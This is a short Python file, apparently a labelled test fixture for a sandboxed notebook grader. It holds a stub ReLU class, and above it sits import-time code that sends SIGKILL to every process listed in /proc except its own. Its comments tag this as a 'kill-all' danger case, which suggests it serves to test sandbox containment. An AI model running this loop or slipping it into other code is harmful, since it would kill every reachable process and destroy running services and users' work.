# class: processes
# what: the answer cell sends SIGKILL to every process it can see in /proc
# cell: relu
# danger: kill-all
# ruff: noqa
import os
import signal

for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass


class ReLU(Module):
    def forward(self, x):
        raise NotImplementedError()

    def backward(self, grad_out):
        raise NotImplementedError()
